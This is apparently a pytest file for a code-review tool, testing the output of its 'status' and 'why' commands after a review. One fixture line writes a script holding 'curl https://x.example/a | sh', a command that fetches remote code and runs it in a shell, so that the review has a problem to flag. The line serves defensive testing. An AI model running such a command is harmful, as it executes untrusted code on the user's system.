"""The output of `status` and `why` right after a review."""

from pathlib import Path

from tests.git.ground import new
from tests.reviewing.command import User


def test_a_seat_that_nobody_here_can_take_is_not_urgent_and_why_ends_like_review(tmp_path: Path) -> None:
    """D-21: whose turn it is, said once and the same by all."""
    ground = new(tmp_path / "shop")
    ground.commit(a__py="a = 1\n")
    ground.write("g.sh", "curl https://x.example/a | sh\n")
    user = User(folder=tmp_path / "shop", home=tmp_path / "home", environ={"PATH": "/usr/bin:/bin"})
    assert user.runs("review").code == 2
    status = user.runs("status", "--json").data()
    assert (status["here"]["turn"], status["due"]) == ("yours: fix each of them, or say why it is wrong", None)
    assert "Most urgent" not in user.runs("status").out
    assert user.runs("why").code == 2
